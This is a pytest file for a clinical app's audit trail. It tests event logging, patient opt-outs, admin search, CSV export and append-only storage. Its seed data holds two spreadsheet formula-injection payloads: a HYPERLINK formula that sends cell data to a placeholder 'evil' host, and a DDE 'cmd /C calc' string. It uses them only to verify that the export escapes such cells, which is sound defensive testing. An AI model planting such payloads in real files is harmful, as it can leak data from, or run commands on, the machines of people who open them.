"""The audit trail: one event per view of personal data and per export, searchable and
exportable (CSV safe to open in a spreadsheet) by administrators, and append-only."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import Workbook
from sqlalchemy import func, select, text
from sqlalchemy.exc import DatabaseError

from tests.conftest import FORM_TOKEN_FIELD, login
from tests.support.crawl import DOWNLOAD_SUFFIXES, crawl, get_routes, route_url, sample_urls
from tests.support.isolation import fresh_globals_per_request
from tests.support.world import ROLES, World, build_world
from vaikuttavuus.extensions import db
from vaikuttavuus.models import AuditEvent, Person
from vaikuttavuus.services import audit
from vaikuttavuus.services.audit_export import spreadsheet_cell


@pytest.fixture(autouse=True)
def _fresh_request_globals(app: Flask) -> None:
    fresh_globals_per_request(app)


@pytest.fixture
def world(app: Flask, make_user: Any, enrol_patient: Any, patient_link: Any) -> World:
    return build_world(app, make_user, enrol_patient, patient_link)


def _last_id() -> int:
    return int(db.session.scalar(select(func.max(AuditEvent.id))) or 0)


def _events_after(event_id: int) -> list[AuditEvent]:
    db.session.expire_all()
    return list(db.session.scalars(select(AuditEvent).where(AuditEvent.id > event_id)))


def _personal_markers() -> list[str]:
    people = db.session.execute(select(Person.pseudonym, Person.last_name)).all()
    return [m for row in people for m in row if m]


# -- one event per view and export ---------------------------------------------------------------


def test_each_view_of_personal_data_writes_exactly_one_event(world: World) -> None:
    markers = _personal_markers()
    starts = sample_urls(world.app, world.values)
    problems = []
    checked: set[str] = set()
    mark = {"before": 0}

    def remember(_url: str) -> None:
        mark["before"] = _last_id()

    for role in ROLES:
        client = world.client(role)
        for url, response, parsed in crawl(
            client, starts, per_endpoint=2, skip=_is_patient, before_fetch=remember
        ):
            if parsed is None or response.status_code != 200:
                continue
            html = response.get_data(as_text=True)
            if not any(marker in html for marker in markers):
                continue
            events = _events_after(mark["before"])
            checked.add(f"{role} {url}")
            if len(events) != 1:
                problems.append(f"{role} {url}: {len(events)} audit events")
            elif events[0].actor != f"world_{role}" or events[0].user_id is None:
                problems.append(f"{role} {url}: event by {events[0].actor}")
    assert any("/clinician/bph/" in page for page in checked)
    assert problems == []


def _is_patient(path: str) -> bool:
    return path.startswith("/r/")


def _download_urls(world: World) -> list[str]:
    urls = {
        route_url(rule, world.values)
        for rule in get_routes(world.app)
        if rule.rule.endswith(DOWNLOAD_SUFFIXES)
    }
    return sorted(urls)


def test_each_export_writes_exactly_one_event(world: World) -> None:
    downloads = _download_urls(world)
    assert "/admin/audit.csv" in downloads
    assert "/pilot/bph/summary.pdf" in downloads
    problems = []
    exported = []
    for role in ROLES:
        client = world.client(role)
        for url in downloads:
            before = _last_id()
            response = client.get(url)
            events = _events_after(before)
            if response.status_code != 200:
                if events:
                    problems.append(f"{role} {url}: {response.status_code} but audited")
                continue
            response.get_data()  # a streamed export is complete only when read
            events = _events_after(before)
            exported.append(f"{role} {url}")
            if "attachment" not in response.headers.get("Content-Disposition", ""):
                problems.append(f"{role} {url}: not sent as an attachment")
            if len(events) != 1 or not events[0].action.startswith("export"):
                problems.append(f"{role} {url}: events {[e.action for e in events]}")
    assert "admin /admin/audit.csv" in exported
    assert "pilot_lead /pilot/bph/summary.pdf" in exported
    assert problems == []


# -- the person's own actions through their link -------------------------------------------------


def test_a_patient_sending_answers_and_opting_out_is_audited(
    app: Flask, enrol_patient: Any, patient_link: Any
) -> None:
    """Sending the answers and declining further questionnaires change the person's data:
    each writes one event by the actor ``patient`` about the person (never the answers)."""
    from tests.web.test_walking_skeleton import IPSS_ANSWERS, answer_pages

    client = app.test_client()
    answering = enrol_patient(pilot="bph", arm="operating_room", index_offset_days=10)
    token = patient_link(answering)
    review = answer_pages(client, token, IPSS_ANSWERS)
    form_token = FORM_TOKEN_FIELD.search(review)
    assert form_token
    start = _last_id()
    sent = client.post(f"/r/{token}/submit", data={"form_token": form_token.group(1)})
    assert sent.status_code == 302 and "/thanks" in sent.headers["Location"]
    again = client.post(f"/r/{token}/submit", data={"form_token": form_token.group(1)})
    assert again.status_code == 302  # a double click stores (and audits) nothing more
    (event,) = _events_after(start)
    assert (event.action, event.actor, event.user_id) == ("patient_submit", "patient", None)
    assert (event.person_id, event.pilot_code) == (answering.person_id, "bph")
    assert event.object_type == "invitation" and event.details["time_point"] == "baseline"
    assert event.details["instruments"] and event.details["responses"]
    stored = str(event.details)
    assert not any(f"'{item}'" in stored for item in IPSS_ANSWERS)  # no answers in it

    declining = enrol_patient(pilot="bph", arm="operating_room", index_offset_days=10)
    token = patient_link(declining)
    page = client.get(f"/r/{token}/opt-out").get_data(as_text=True)
    form_token = FORM_TOKEN_FIELD.search(page)
    assert form_token
    start = _last_id()
    done = client.post(f"/r/{token}/opt-out", data={"form_token": form_token.group(1)})
    assert done.status_code == 302
    again = client.post(f"/r/{token}/opt-out", data={"form_token": form_token.group(1)})
    assert again.status_code == 302
    (event,) = _events_after(start)
    assert (event.action, event.actor, event.user_id) == ("patient_opt_out", "patient", None)
    assert (event.person_id, event.pilot_code) == (declining.person_id, "bph")
    assert event.details["invitations_stopped"] >= 1
    db.session.refresh(declining.person)
    assert declining.person.opted_out_at is not None


# -- searching and exporting the log -------------------------------------------------------------


@pytest.fixture
def admin_client(app: Flask, make_user: Any) -> FlaskClient:
    make_user("auditor", "admin")
    client = app.test_client()
    assert login(client, "auditor").status_code == 302
    return client


def _seed_events() -> None:
    old = datetime.now(UTC) - timedelta(days=40)
    with db.session.no_autoflush:
        for n, (actor, action, person) in enumerate(
            [
                ("alice", "view_patient", 11),
                ("alice", "export_pdf", None),
                ("bob", "view_patient", 12),
                ('=HYPERLINK("http://evil/?"&A1)', "login_failed", None),
                ("@SUM(1+1)*cmd|' /C calc'!A0", "login_failed", None),
            ]
        ):
            event = audit.record(
                action,
                object_type="enrolment",
                object_id="-2+3" if n == 2 else n,
                person_id=person,
                actor=actor,
                details={"note": "+1 555 0100", "tab": "\tTAB"},
            )
            if n == 0:
                event.occurred_at = old
    db.session.commit()


def test_admins_search_the_log(app: Flask, admin_client: FlaskClient) -> None:
    _seed_events()
    page = admin_client.get("/admin/audit", query_string={"actor": "alice"})
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert html.count("<td>alice</td>") == 2 and "<td>bob</td>" not in html
    html = admin_client.get("/admin/audit", query_string={"person": "12"}).get_data(as_text=True)
    assert "<td>bob</td>" in html and "<td>alice</td>" not in html
    recent = (date.today() - timedelta(days=7)).isoformat()
    html = admin_client.get(
        "/admin/audit", query_string={"actor": "alice", "from": recent}
    ).get_data(as_text=True)
    assert html.count("<td>alice</td>") == 1
    bad = admin_client.get("/admin/audit", query_string={"person": "12abc", "from": "1.1.2025"})
    assert bad.status_code == 200
    assert 'class="error"' in bad.get_data(as_text=True)
    assert "<td>bob</td>" not in bad.get_data(as_text=True)


def _csv(client: FlaskClient, **query: str) -> list[list[str]]:
    response = client.get("/admin/audit.csv", query_string=query)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


def test_audit_export_is_filtered_and_formula_safe(app: Flask, admin_client: FlaskClient) -> None:
    _seed_events()
    rows = _csv(admin_client)
    header, data = rows[0], rows[1:]
    assert header not in data
    assert header[:5] == ["id", "occurred_at_utc", "actor", "role", "action"]
    actors = [row[2] for row in data]
    assert '\'=HYPERLINK("http://evil/?"&A1)' in actors
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in actors
    for row in data:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # A spreadsheet program given these cells stores text, never a formula.
    sheet = Workbook().active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    assert not [c.coordinate for line in sheet.iter_rows() for c in line if c.data_type == "f"]
    # Filters as on the page.
    only_bob = _csv(admin_client, actor="bob")[1:]
    assert [row[2] for row in only_bob] == ["bob"]
    assert only_bob[0][6] == "'-2+3"
    assert admin_client.get("/admin/audit.csv", query_string={"person": "x"}).status_code == 400


def test_audit_export_is_itself_audited(app: Flask, admin_client: FlaskClient) -> None:
    _seed_events()
    before = _last_id()
    _csv(admin_client, action="login_failed")
    events = _events_after(before)
    assert [e.action for e in events] == ["export_audit_log"]
    assert events[0].details["action"] == "login_failed"
    assert events[0].actor == "auditor"


def test_spreadsheet_cell() -> None:
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("  =1+1") == "'  =1+1"
    assert spreadsheet_cell("-5") == "'-5"
    assert spreadsheet_cell("\r\n") == "'\r\n"
    assert spreadsheet_cell("plain") == "plain"
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell(12) == "12"


# -- append-only ---------------------------------------------------------------------------------


def test_audit_events_refuse_orm_changes_and_bulk_deletes(app: Flask, backend: str) -> None:
    with app.test_request_context():
        event = audit.record("view_patient", object_type="enrolment", object_id=1, person_id=1)
        db.session.commit()
        event_id = event.id
    event.action = "tampered"
    with pytest.raises(DatabaseError):
        db.session.commit()
    db.session.rollback()
    db.session.delete(db.session.get(AuditEvent, event_id))
    with pytest.raises(DatabaseError):
        db.session.commit()
    db.session.rollback()
    statement = "TRUNCATE audit_events" if backend == "postgresql" else "DELETE FROM audit_events"
    with pytest.raises(DatabaseError):
        db.session.execute(text(statement))
        db.session.commit()
    db.session.rollback()
    assert db.session.scalar(select(func.count()).select_from(AuditEvent)) >= 1
    stored = db.session.get(AuditEvent, event_id)
    assert stored is not None and stored.action == "view_patient"
